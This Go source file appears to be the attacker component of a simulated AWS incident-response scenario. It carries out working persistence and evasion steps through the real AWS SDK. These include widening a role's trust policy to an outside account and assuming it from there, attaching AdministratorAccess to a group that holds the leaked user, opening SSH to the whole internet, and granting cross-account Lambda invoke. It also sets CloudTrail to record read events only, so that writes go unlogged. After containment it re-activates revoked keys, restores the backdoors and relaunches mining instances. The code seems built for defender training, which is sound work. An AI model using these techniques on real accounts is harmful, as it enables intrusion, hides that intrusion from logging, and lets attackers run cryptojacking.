package scenario

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"slices"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	cttypes "github.com/aws/aws-sdk-go-v2/service/cloudtrail/types"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	iamtypes "github.com/aws/aws-sdk-go-v2/service/iam/types"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/sts"
	"github.com/aws/smithy-go"
)

// The attacker's quieter footholds, and its reactions to containment.

// functionName is the attacker's Lambda function; permissionSid the
// statement that lets its own account invoke it.
const (
	functionName  = "log-forwarder"
	permissionSid = "log-forwarder-xacct"
)

func apiCode(err error) string {
	var ae smithy.APIError
	if errors.As(err, &ae) {
		return ae.ErrorCode()
	}
	return ""
}

// entrench is the round after mint: an existing role's trust widened to
// the attacker's own account (and tried from there at once), and
// administrator rights put on an existing group with the leaked user
// added to it, so that detaching the user's own policy is not enough.
func (a *Attacker) entrench(ctx context.Context) {
	if a.backdoorTrust(ctx) {
		a.add(KindOutsideKey, a.outside, "")
		a.assumeFromOutside(ctx)
	}
	group := a.adminGroup
	if _, err := a.try(ctx, "AttachGroupPolicy "+group+" AdministratorAccess", nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).AttachGroupPolicy(ctx, &iam.AttachGroupPolicyInput{GroupName: aws.String(group),
			PolicyArn: aws.String(adminPolicy)})
		return err
	}); err == nil {
		a.planted(Foothold{Kind: "group-policy", ID: "group/" + group + ":" + adminPolicy})
	}
	user := a.sc.leakedUser
	if _, err := a.try(ctx, "AddUserToGroup "+user+" "+group, nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).AddUserToGroup(ctx, &iam.AddUserToGroupInput{GroupName: aws.String(group),
			UserName: aws.String(user)})
		return err
	}); err == nil {
		a.planted(Foothold{Kind: "group", ID: user + "@" + group})
	}
}

// outsideRoot is the principal the backdoored trust names.
func (a *Attacker) outsideRoot() string { return "arn:aws:iam::" + a.outsideAcct + ":root" }

// trustNames reports whether the trust policy doc (as GetRole returns it,
// URL-encoded) lets principal in by an Allow statement.
func trustNames(doc, principal string) (bool, map[string]any, error) {
	if d, err := url.QueryUnescape(doc); err == nil {
		doc = d
	}
	var p map[string]any
	if err := json.Unmarshal([]byte(doc), &p); err != nil {
		return false, nil, err
	}
	var stmts []any
	switch st := p["Statement"].(type) {
	case []any:
		stmts = st
	case map[string]any:
		stmts = []any{st}
	}
	for _, s := range stmts {
		st, _ := s.(map[string]any)
		if st == nil || st["Effect"] != "Allow" {
			continue
		}
		pr, _ := st["Principal"].(map[string]any)
		switch v := pr["AWS"].(type) {
		case string:
			if v == principal {
				return true, p, nil
			}
		case []any:
			if slices.Contains(v, any(principal)) {
				return true, p, nil
			}
		}
	}
	p["Statement"] = stmts
	return false, p, nil
}

// backdoorTrust reads the trust role's policy and, unless it already lets
// the attacker's account in, adds a statement that does (keeping the
// others, so nothing legitimate breaks and nobody notices). It reports
// whether the trust lets the account in afterwards.
func (a *Attacker) backdoorTrust(ctx context.Context) bool {
	role, principal := a.trustRole, a.outsideRoot()
	var doc map[string]any
	present := false
	if _, err := a.try(ctx, "GetRole "+role, nil, func(cfg func(string) aws.Config) error {
		out, err := iam.NewFromConfig(cfg(homeRgn)).GetRole(ctx, &iam.GetRoleInput{RoleName: aws.String(role)})
		if err != nil {
			return err
		}
		present, doc, err = trustNames(aws.ToString(out.Role.AssumeRolePolicyDocument), principal)
		return err
	}); err != nil {
		return false
	}
	if present {
		return true
	}
	doc["Statement"] = append(doc["Statement"].([]any), map[string]any{"Effect": "Allow",
		"Principal": map[string]any{"AWS": principal}, "Action": "sts:AssumeRole"})
	b, err := json.Marshal(doc)
	if err != nil {
		return false
	}
	if _, err := a.try(ctx, "UpdateAssumeRolePolicy "+role, nil, func(cfg func(string) aws.Config) error {
		_, err := iam.NewFromConfig(cfg(homeRgn)).UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: aws.String(role),
			PolicyDocument: aws.String(string(b))})
		return err
	}); err != nil {
		return false
	}
	a.planted(Foothold{Kind: "trust", ID: "role/" + role, Detail: "+" + principal})
	return true
}

// assumeFromOutside assumes the backdoored role with the attacker's own
// account's key, and keeps the session in place of the one it had.
func (a *Attacker) assumeFromOutside(ctx context.Context) bool {
	roleARN := fmt.Sprintf("arn:aws:iam::%s:role/%s", a.sc.sim.AccountID(), a.trustRole)
	_, err := a.try(ctx, "AssumeRole "+a.trustRole+" from "+a.outsideAcct, []string{KindOutsideKey}, func(cfg func(string) aws.Config) error {
		out, err := sts.NewFromConfig(cfg(homeRgn)).AssumeRole(ctx, &sts.AssumeRoleInput{RoleArn: aws.String(roleARN),
			RoleSessionName: aws.String(fmt.Sprintf("i-%017x", a.rng.Uint64()>>4))})
		if err == nil {
			a.replace(KindOutside, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration))
		}
		return err
	})
	return err == nil
}

// outsideRound looks at the miners through the back door, and assumes
// the role again from outside when its session was lost, and every
// fourth round anyway (a fresh session outlives a revoke of older ones).
func (a *Attacker) outsideRound(ctx context.Context, region string, round int) {
	if !a.holds(KindOutsideKey) {
		return
	}
	if a.usable(KindOutside) {
		_, _ = a.try(ctx, "DescribeInstances "+region, []string{KindOutside}, func(cfg func(string) aws.Config) error {
			_, err := ec2.NewFromConfig(cfg(region)).DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
			return err
		})
	}
	if !a.usable(KindOutside) || round%4 == 0 {
		a.assumeFromOutside(ctx)
	}
}

// holds reports whether the attacker ever got a credential of kind.
func (a *Attacker) holds(kind string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return slices.ContainsFunc(a.held, func(h *held) bool { return h.Kind == kind })
}

// isSSH reports whether p opens tcp/22 to the world.
func isSSH(p ec2types.IpPermission) bool {
	if aws.ToString(p.IpProtocol) != "tcp" || aws.ToInt32(p.FromPort) > 22 || aws.ToInt32(p.ToPort) < 22 {
		return false
	}
	return slices.ContainsFunc(p.IpRanges, func(r ec2types.IpRange) bool { return aws.ToString(r.CidrIp) == "0.0.0.0/0" })
}

// openSSH opens tcp/22 from anywhere on the default security group of
// the Region where it launched miners first, unless it is open already.
// The group is named "default" or given by id, as the seed chose. It
// reports whether it authorised the rule just now.
func (a *Attacker) openSSH(ctx context.Context) bool {
	a.mu.Lock()
	region := a.sshRegion
	a.mu.Unlock()
	if region == "" {
		return false
	}
	var groupID string
	open := false
	if _, err := a.try(ctx, "DescribeSecurityGroups default in "+region, nil, func(cfg func(string) aws.Config) error {
		out, err := ec2.NewFromConfig(cfg(region)).DescribeSecurityGroups(ctx, &ec2.DescribeSecurityGroupsInput{
			Filters: []ec2types.Filter{{Name: aws.String("group-name"), Values: []string{"default"}}}})
		if err != nil {
			return err
		}
		if len(out.SecurityGroups) == 0 {
			return fmt.Errorf("no default security group in %s", region)
		}
		g := out.SecurityGroups[0]
		groupID, open = aws.ToString(g.GroupId), slices.ContainsFunc(g.IpPermissions, isSSH)
		return nil
	}); err != nil || open {
		return false
	}
	in := &ec2.AuthorizeSecurityGroupIngressInput{IpPermissions: []ec2types.IpPermission{{IpProtocol: aws.String("tcp"),
		FromPort: aws.Int32(22), ToPort: aws.Int32(22), IpRanges: []ec2types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}}}}}
	if a.sshByName {
		in.GroupName = aws.String("default")
	} else {
		in.GroupId = aws.String(groupID)
	}
	if _, err := a.try(ctx, "AuthorizeSecurityGroupIngress "+groupID+" tcp/22 in "+region, nil, func(cfg func(string) aws.Config) error {
		_, err := ec2.NewFromConfig(cfg(region)).AuthorizeSecurityGroupIngress(ctx, in)
		if apiCode(err) == "InvalidPermission.Duplicate" {
			return nil
		}
		return err
	}); err != nil {
		return false
	}
	a.mu.Lock()
	a.sshGroup = groupID
	a.mu.Unlock()
	a.planted(Foothold{Kind: "ingress", ID: groupID, Region: region, Detail: "tcp/22 from 0.0.0.0/0"})
	return true
}

// plantPermission lets the attacker's own account invoke its function.
func (a *Attacker) plantPermission(ctx context.Context, region string) {
	if _, err := a.try(ctx, "AddPermission "+functionName+" in "+region, nil, func(cfg func(string) aws.Config) error {
		_, err := lambda.NewFromConfig(cfg(region)).AddPermission(ctx, &lambda.AddPermissionInput{FunctionName: aws.String(functionName),
			StatementId: aws.String(permissionSid), Action: aws.String("lambda:InvokeFunction"), Principal: aws.String(a.outsideAcct)})
		if apiCode(err) == "ResourceConflictException" {
			return nil
		}
		return err
	}); err == nil {
		a.planted(Foothold{Kind: "permission", ID: functionName + ":" + permissionSid, Region: region, Detail: "lambda:InvokeFunction by " + a.outsideAcct})
	}
}

// dropWrites makes the trail record read events only, so that what the
// attacker changes no longer reaches the bucket even if logging is
// started again.
func (a *Attacker) dropWrites(ctx context.Context, trail string) {
	if _, err := a.try(ctx, "PutEventSelectors "+trail+" ReadOnly", nil, func(cfg func(string) aws.Config) error {
		_, err := cloudtrail.NewFromConfig(cfg(homeRgn)).PutEventSelectors(ctx, &cloudtrail.PutEventSelectorsInput{TrailName: aws.String(trail),
			EventSelectors: []cttypes.EventSelector{{ReadWriteType: cttypes.ReadWriteTypeReadOnly, IncludeManagementEvents: aws.Bool(true)}}})
		return err
	}); err == nil {
		a.planted(Foothold{Kind: "trail-selectors", ID: trail, Region: homeRgn, Detail: "management write events dropped"})
	}
}

// noteInstances raises the alarm when one of its instances is newly seen
// stopped or terminated.
func (a *Attacker) noteInstances(out *ec2.DescribeInstancesOutput) {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, r := range out.Reservations {
		for _, in := range r.Instances {
			if aws.ToString(in.KeyName) != "kali" || in.State == nil {
				continue
			}
			switch in.State.Name {
			case ec2types.InstanceStateNamePending, ec2types.InstanceStateNameRunning:
			default:
				if id := aws.ToString(in.InstanceId); !a.stopped[id] {
					a.stopped[id], a.alarm = true, true
				}
			}
		}
	}
}

// maybeReact runs a reaction when something was lost, no sooner than
// reactGap rounds after the last one and at most maxReact times.
func (a *Attacker) maybeReact(ctx context.Context, round int) {
	a.mu.Lock()
	due := a.alarm && round >= a.nextReact && a.reactions < a.maxReact
	if due {
		a.alarm = false
		a.reactions++
		a.nextReact = round + a.reactGap
	}
	a.mu.Unlock()
	if due {
		a.react(ctx)
	}
}

// react restores what the attacker lost, with whatever still works: its
// keys re-activated, the trust backdoored again, SSH opened again, and
// new miners when none of its instances runs.
func (a *Attacker) react(ctx context.Context) {
	a.sc.logf("attacker: something was taken away; restoring")
	a.mu.Lock()
	var dead []*held
	for _, h := range a.held {
		if h.Dead && !h.gone && slices.Contains(longTerm, h.Kind) {
			dead = append(dead, h)
		}
	}
	a.mu.Unlock()
	for _, h := range dead {
		_, err := a.try(ctx, "UpdateAccessKey "+h.AccessKeyID+" Active", nil, func(cfg func(string) aws.Config) error {
			_, err := iam.NewFromConfig(cfg(homeRgn)).UpdateAccessKey(ctx, &iam.UpdateAccessKeyInput{UserName: aws.String(h.user),
				AccessKeyId: aws.String(h.AccessKeyID), Status: iamtypes.StatusTypeActive})
			return err
		})
		a.mu.Lock()
		switch {
		case err == nil:
			h.Dead, h.lost = false, false
			a.reacted = append(a.reacted, "UpdateAccessKey "+h.AccessKeyID+" Active")
		case apiCode(err) == "NoSuchEntity":
			h.gone = true
		}
		a.mu.Unlock()
	}
	if a.holds(KindOutsideKey) {
		restored := false
		role, principal := a.trustRole, a.outsideRoot()
		_, _ = a.try(ctx, "GetRole "+role, nil, func(cfg func(string) aws.Config) error {
			out, err := iam.NewFromConfig(cfg(homeRgn)).GetRole(ctx, &iam.GetRoleInput{RoleName: aws.String(role)})
			if err == nil {
				ok, _, perr := trustNames(aws.ToString(out.Role.AssumeRolePolicyDocument), principal)
				restored = perr == nil && !ok
			}
			return err
		})
		if restored && a.backdoorTrust(ctx) {
			a.noteReaction("UpdateAssumeRolePolicy " + role)
		}
	}
	if a.openSSH(ctx) {
		a.mu.Lock()
		a.reacted = append(a.reacted, "AuthorizeSecurityGroupIngress "+a.sshGroup+" in "+a.sshRegion)
		a.mu.Unlock()
	}
	regions := a.Regions()
	seen, running := false, false
	for _, r := range regions {
		_, _ = a.try(ctx, "DescribeInstances "+r, nil, func(cfg func(string) aws.Config) error {
			out, err := ec2.NewFromConfig(cfg(r)).DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
			if err != nil {
				return err
			}
			seen = true
			for _, res := range out.Reservations {
				for _, in := range res.Instances {
					if aws.ToString(in.KeyName) == "kali" && in.State != nil &&
						(in.State.Name == ec2types.InstanceStateNamePending || in.State.Name == ec2types.InstanceStateNameRunning) {
						running = true
					}
				}
			}
			return nil
		})
	}
	if seen && !running && len(regions) > 0 {
		r := regions[a.rng.IntN(len(regions))]
		if a.runMiners(ctx, r, 2) {
			a.noteReaction("RunInstances in " + r)
		}
	}
}
